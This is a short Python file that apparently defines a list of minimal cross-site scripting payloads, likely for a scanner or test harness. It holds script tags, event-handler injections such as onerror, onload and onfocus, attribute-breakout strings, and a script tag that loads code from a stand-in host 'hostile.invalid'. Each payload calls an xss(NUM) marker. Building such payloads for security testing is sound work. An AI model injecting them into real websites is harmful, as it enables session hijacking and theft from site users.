"""The shortest that run in most places."""

IMG = "<img src=x onerror=xss(NUM)>"
SCRIPT = "<script>xss(NUM)</script>"
LOAD = "<svg onload=xss(NUM)>"
SHORT = [IMG, SCRIPT, LOAD, "<svg/onload=xss(NUM)>", "<script src=//hostile.invalid/NUM></script>"]
SHORT += ["<iframe srcdoc='<script>parent.xss(NUM)</script>'>", "<a href=javascript:xss(NUM)>n</a>"]
SHORT += ["<details open ontoggle=xss(NUM)>", "<body onload=xss(NUM)>", "<input autofocus onfocus=xss(NUM)>"]
SHORT += ['" autofocus onfocus=xss(NUM) x="', "' autofocus onfocus=xss(NUM) x='"]
